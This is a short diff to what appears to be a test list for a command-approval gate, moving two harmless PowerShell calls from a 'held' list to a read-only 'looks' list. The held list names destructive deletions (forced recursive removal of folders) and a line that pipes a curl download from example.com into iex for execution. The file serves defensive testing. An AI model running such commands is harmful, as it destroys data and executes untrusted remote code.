@@ -13,9 +13,7 @@ HELD = [
     "Remove-Item -Recurse -Force node_modules",
     "rd /s /q build",
     "del notes.txt",
-    "powershell -Command Get-ChildItem",
     "powershell -File x.ps1",
-    "pwsh -c 'Write-Output hi'",
     "cmd /c build.bat",
     "iex 'Get-Date'",
     "iex '(curl https://example.com/x)'",
@@ -24,6 +22,8 @@ HELD = [
 ]
 LOOKS = [
     "cmd /c dir",
+    "powershell -Command Get-ChildItem",
+    "pwsh -c 'Write-Output hi'",
     "reg query HKLM",
     "netsh interface show interface",
     "vssadmin list shadows",
